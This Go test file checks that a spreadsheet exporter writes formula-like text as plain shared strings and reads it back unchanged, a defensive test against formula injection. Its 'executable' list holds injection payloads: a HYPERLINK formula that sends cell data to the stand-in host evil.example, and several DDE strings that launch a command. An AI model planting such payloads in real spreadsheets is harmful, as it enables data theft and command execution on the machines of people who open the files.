package spreadsheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/roadcase/roadcase/core/records/demo"
)

// executable are texts a spreadsheet program would run as a formula or a DDE
// command were they written as typed-in cell content.
var executable = []string{
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"=cmd|' /C calc'!A0",
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

func TestTextThatLooksLikeAFormulaIsWrittenAsAStringAndReadBackUnchanged(t *testing.T) {
	t.Parallel()
	doc := demoDocument(demo.Organizations()[0])
	for i, text := range executable {
		doc.Venues[i].Notes = text
		doc.People[i].Company = text
	}
	data := writeWorkbook(t, doc)
	shared := sharedStrings(t, parts(t, data)["xl/sharedStrings.xml"])
	for _, text := range executable {
		if !slices.Contains(shared, text) {
			t.Errorf("%q is not a shared string of the workbook", text)
		}
	}
	for name, part := range parts(t, data) {
		if !strings.HasPrefix(name, "xl/worksheets/") {
			continue
		}
		for _, c := range cells(t, part) {
			if c.Formula != nil || (c.Type != "s" && c.Type != "" && c.Type != "b") {
				t.Errorf("%s cell %s is of type %q with formula %v, want a shared string, a number or a boolean", name, c.Ref, c.Type, c.Formula)
			}
		}
	}
	back, err := readWorkbook(data)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	for i, text := range executable {
		if back.Venues[i].Notes != text || back.People[i].Company != text {
			t.Errorf("read back %q and %q, want %q", back.Venues[i].Notes, back.People[i].Company, text)
		}
	}
}

// parts returns the text of every part of a zip archive by name.
func parts(t *testing.T, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatalf("the workbook is not a zip: %v", err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		_ = rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(b)
	}
	return out
}

// sharedStrings returns the texts of a sharedStrings.xml part.
func sharedStrings(t *testing.T, part string) []string {
	t.Helper()
	var sst struct {
		Items []struct {
			Text string `xml:"t"`
		} `xml:"si"`
	}
	if err := xml.Unmarshal([]byte(part), &sst); err != nil {
		t.Fatalf("sharedStrings.xml: %v", err)
	}
	var out []string
	for _, it := range sst.Items {
		out = append(out, it.Text)
	}
	return out
}

// xmlCell is a worksheet's cell element.
type xmlCell struct {
	Ref     string  `xml:"r,attr"`
	Type    string  `xml:"t,attr"`
	Formula *string `xml:"f"`
}

// cells returns the cells of a worksheet part.
func cells(t *testing.T, part string) []xmlCell {
	t.Helper()
	var ws struct {
		Rows []struct {
			Cells []xmlCell `xml:"c"`
		} `xml:"sheetData>row"`
	}
	if err := xml.Unmarshal([]byte(part), &ws); err != nil {
		t.Fatalf("worksheet: %v", err)
	}
	var out []xmlCell
	for _, r := range ws.Rows {
		out = append(out, r.Cells...)
	}
	if len(out) == 0 {
		t.Fatal("the worksheet has no cells")
	}
	return out
}
